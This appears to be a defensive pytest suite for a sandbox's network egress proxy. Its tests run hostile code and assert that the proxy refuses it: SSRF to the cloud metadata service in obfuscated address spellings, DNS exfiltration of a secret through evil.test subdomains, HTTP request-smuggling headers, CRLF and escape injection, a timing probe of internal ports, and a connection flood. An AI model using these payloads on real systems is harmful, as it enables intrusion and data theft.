"""Hostile code in a session that may use the network: there is one way out, and it is judged."""

from __future__ import annotations

import os
import socket
import threading
from collections.abc import Iterator

import pytest
from tests.egress.online import Online, online
from tests.egress.servers import Names, Rules, Server, serving
from tests.guarantees.conftest import PRELUDE

#: speaks to the proxy as no library would
SPEAK = (
    PRELUDE
    + """
import json
def proxy():
    return socket.create_connection(("127.0.0.1", 3128), timeout=20)
def say(raw):
    with proxy() as sock:
        sock.sendall(raw)
        sock.shutdown(socket.SHUT_WR)
        return sock.makefile("rb").read()
def get(host, path="/", method="GET"):
    return say(f"{method} http://{host}{path} HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n".encode())
"""
)


@pytest.fixture(scope="module")
def server() -> Iterator[Server]:
    with serving() as found:
        yield found


@pytest.fixture(scope="module")
def opened(isolation: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Online]:
    names = Names(site_test=["127.0.0.1"], evil_test=["127.0.0.1"])
    with online(isolation, tmp_path_factory.mktemp("state"), Rules(), names) as found:
        yield found


@pytest.fixture
def attacker(opened: Online, server: Server) -> Online:
    """Anything may be asked of site.test, and nothing of anybody else."""
    opened.session.reset()
    opened.rules.allow, opened.rules.private = ["* *://site.test:*"], True
    opened.names.asked.clear()
    server.seen.clear()
    return opened


def test_no_address_is_reached_without_the_proxy(attacker: Online, server: Server) -> None:
    ours = socket.gethostbyname(socket.gethostname())
    with socket.socket(socket.AF_UNIX) as abstract:
        abstract.bind(f"\0mulligan-egress-{os.getpid()}")
        abstract.listen()
        said = attacker.said(
            SPEAK
            + f"""
for address in ("127.0.0.1", {ours!r}, "172.17.0.1", "1.1.1.1", "169.254.169.254", "site.test"):
    for port in ({server.port}, 80, 53):
        with socket.socket() as sock:
            sock.settimeout(1)
            print(*attempt(sock.connect, (address, port)))
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
    print(*attempt(sock.sendto, b"x", ("1.1.1.1", 53)))
with socket.socket(socket.AF_UNIX) as sock:
    print(*attempt(sock.connect, "\\0mulligan-egress-{os.getpid()}"))
for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW), (40, 1)):
    print(*attempt(socket.socket, family, kind))
print(*attempt(socket.getaddrinfo, "site.test", 80))
"""
        )
    assert all(line.startswith("refused") for line in said.splitlines()), said
    assert server.seen == [] and attacker.names.asked == []


def test_private_addresses_and_the_metadata_service_in_every_spelling(
    attacker: Online, server: Server
) -> None:
    attacker.rules.allow, attacker.rules.private = ["*"], False
    said = attacker.said(
        SPEAK
        + f"""
for host in ("127.0.0.1", "2130706433", "0x7f.1", "0177.0.0.1", "127.1", "127.0.0.1.", "[::1]", "[::ffff:127.0.0.1]",
             "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "0", "localhost.", "evil.test", "10.0.0.1", "169.254.169.254",
             "0xA9FEA9FE", "[fd00:ec2::254]", "metadata.test"):
    print(host, get(host + ":{server.port}").split(b" ")[1].decode())
"""
    )
    assert {line.split()[1] for line in said.splitlines()} <= {"400", "403", "502"}, said
    assert [line.split()[0] for line in said.splitlines() if line.endswith("400")] == [
        *("2130706433", "0x7f.1", "0177.0.0.1", "127.1", "0", "0xA9FEA9FE")  # no rule knows an address so
    ]
    assert [line for line in said.splitlines() if line.endswith("502")] == [
        "localhost. 502",  # this test's resolver does not know them
        "metadata.test 502",
    ]
    assert server.seen == []


def test_nothing_leaks_by_names_that_are_looked_up(attacker: Online) -> None:
    attacker.said(
        SPEAK
        + """
for secret in ("c2VjcmV0", "b"):
    get(secret + ".evil.test"); get(secret + ".evil.test", method="POST")
    say(f"CONNECT {secret}.evil.test:443 HTTP/1.1\\r\\n\\r\\n".encode())
    attempt(socket.getaddrinfo, secret + ".evil.test", 80)
"""
    )
    assert attacker.names.asked == []


def test_a_denial_says_and_takes_the_same_whether_somebody_listens_at_a_private_address_or_not(
    attacker: Online,
) -> None:
    """So nobody can look around in the host's network by asking, nor by how long it takes: nothing is dialled."""
    attacker.rules.allow, attacker.rules.private = ["*"], False
    with socket.create_server(("127.0.0.1", 0)) as listening, socket.socket() as closed:
        closed.bind(("127.0.0.1", 0))  # taken, and nobody listens
        listening.setblocking(False)
        ports = [listening.getsockname()[1], closed.getsockname()[1]]
        said = attacker.said(
            SPEAK
            + f"""
raw = [get(f"evil.test:{{port}}").replace(str(port).encode(), b"PORT") for port in {ports}]
answers = [each.split(b"\\r\\n\\r\\n")[1] for each in raw]
print(answers[0] == answers[1], json.loads(answers[0])["rule"])
"""
        )
        assert said == "True network.addresses"
        with pytest.raises(BlockingIOError):
            listening.accept()


def test_a_tunnel_to_another_port_or_with_other_content_is_judged_anew(
    attacker: Online, server: Server
) -> None:
    attacker.rules.allow = [f"GET http://site.test:{server.port}/ok"]
    said = attacker.said(
        SPEAK
        + f"""
for port, path, method in (({server.port}, "/ok", "GET"), ({server.port}, "/no", "GET"), (22, "/ok", "GET"),
                           ({server.port}, "/ok", "DELETE")):
    with proxy() as sock:
        sock.sendall(f"CONNECT site.test:{{port}} HTTP/1.1\\r\\nHost: site.test:{{port}}\\r\\n\\r\\n".encode())
        sock.recv(1000)
        sock.sendall(f"{{method}} {{path}} HTTP/1.1\\r\\nHost: site.test:{{port}}\\r\\n\\r\\n".encode())
        print(sock.recv(100).split(b" ")[1].decode())
"""
    )
    assert said.split() == ["200", "403", "403", "403"]
    assert server.seen == ["GET /ok"]


def test_what_is_smuggled_arrives_nowhere(attacker: Online, server: Server) -> None:
    attacker.rules.allow = ["POST http://site.test:*/ok"]
    said = attacker.said(
        SPEAK
        + f"""
host = "site.test:{server.port}"
second = f"GET http://{{host}}/smuggled HTTP/1.1\\r\\nHost: {{host}}\\r\\n\\r\\n"
for headers, body in (("Content-Length: 6\\r\\nTransfer-Encoding: chunked", "0\\r\\n\\r\\n"),
                      ("Content-Length: 0\\r\\nContent-Length: 99", ""), ("X: a\\n\\nGET /smuggled HTTP/1.1", ""),
                      ("Transfer-Encoding : chunked", "0\\r\\n\\r\\n"), ("Host: evil.test", ""),
                      ("Transfer-Encoding: xchunked", "0\\r\\n\\r\\n"), ("X: a\\r\\n Content-Length: 5", "")):
    head = f"POST http://{{host}}/ok HTTP/1.1\\r\\nHost: {{host}}\\r\\n{{headers}}\\r\\n\\r\\n"
    answer = say((head + body + second).encode())
    print(answer.count(b"HTTP/1.1 "), answer.split(b" ")[1].decode())
"""
    )
    assert set(said.splitlines()) <= {"1 400", "1 501"}, said
    assert server.seen == []


def test_nobody_inside_holds_the_port_of_the_proxy_and_nobody_can_take_it(attacker: Online) -> None:
    said = attacker.said(
        SPEAK
        + """
listening = {line.split()[9] for line in open("/proc/net/tcp") if line.split()[3] == "0A"}
held = set()
for pid in everyone() + [os.getpid()]:
    try:
        held |= {os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")}
    except OSError:
        pass
print(len(listening), [inode for inode in listening if f"socket:[{inode}]" in held])
for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
    for address in ("127.0.0.1", "0.0.0.0"):
        with socket.socket() as sock:
            sock.setsockopt(socket.SOL_SOCKET, option, 1)
            print(attempt(lambda: (sock.bind((address, 3128)), sock.listen()))[0])
for path in ("/run/mulligan/ca.pem", "/run/mulligan/x"):
    print(*attempt(open, path, "w")); print(*attempt(os.unlink, path))
print("PRIVATE" in open("/run/mulligan/ca.pem").read())
print(get("site.test:1").split(b" ")[1].decode())
"""
    )
    lines = said.splitlines()
    assert lines[0] == "1 []", said
    assert all(line.startswith("refused") for line in lines[1:-2]), said
    assert lines[-2:] == ["False", "502"], said  # the proxy still answers


def test_floods_and_slow_ones_leave_the_session_and_its_proxy_at_work(
    attacker: Online, server: Server
) -> None:
    said = attacker.said(
        SPEAK
        + f"""
held = []
for number in range(300):
    held.append(proxy())
    held[-1].sendall(b"GET http://site.test/ HTTP/1.1\\r\\nX")
print(len(held))
for sock in held:
    sock.close()
print(get("site.test:{server.port}").split(b" ")[1].decode())
"""
    )
    assert said.split() == ["300", "200"]
    assert threading.active_count() < 400
    assert attacker.said("print(1)") == "1"


def test_an_answer_is_not_split_and_hides_no_code_in_what_is_shown(attacker: Online) -> None:
    step = attacker.run(
        SPEAK
        + r"""
get("evil.test", "/\x1b[2J%0d%0aSet-Cookie:a=b")
get("evil.test", "/%1b[2J")
print(get("evil.test", "/a").count(b"\r\n\r\n"))
"""
    )
    assert step.outcome.stdout == "1\n"
    assert "\x1b" not in step.outcome.text
    assert (
        "[network: denied GET http://evil.test/a by rule none: no rule allows it; instead: ask for a rule]"
        in (step.outcome.text)
    )


def test_a_connection_from_before_an_undo_is_cut_and_gives_no_answer_of_another(
    attacker: Online, server: Server
) -> None:
    """The woken twin shares the connection with the worker that went on: the rest of an answer may be in it."""
    attacker.said(SPEAK + "sock = proxy()")
    host = f"site.test:{server.port}"
    attacker.run(
        f"ask = b'GET http://{host}/bytes/100000 HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n'\n"
        "sock.sendall(ask); sock.recv(10)"
    )
    attacker.session.undo()
    assert attacker.said("print(attempt(lambda: (sock.sendall(b'x'), sock.recv(10))))") in (
        "('refused', 'ConnectionResetError')",
        "('refused', 'BrokenPipeError')",
        "('done', (None, b''))",
    )


def test_a_process_that_outlives_its_action_asks_through_the_same_proxy(
    attacker: Online, server: Server
) -> None:
    step = attacker.run(
        SPEAK
        + f"""
import subprocess
subprocess.run([sys.executable, "-c", '''
import socket
for host in ("site.test:{server.port}", "evil.test:{server.port}"):
    with socket.create_connection(("127.0.0.1", 3128)) as sock:
        ask = f"GET http://{{host}}/ HTTP/1.1\\\\r\\\\nHost: {{host}}\\\\r\\\\n"
        sock.sendall(ask.encode() + b"Connection: close\\\\r\\\\n\\\\r\\\\n")
        sock.makefile("rb").read()
'''])
"""
    )
    assert step.outcome.kind == "completed", step.outcome.text
    assert [effect.denied for effect in step.effects] == [False, True], step.outcome.text
    assert server.seen == ["GET /"]
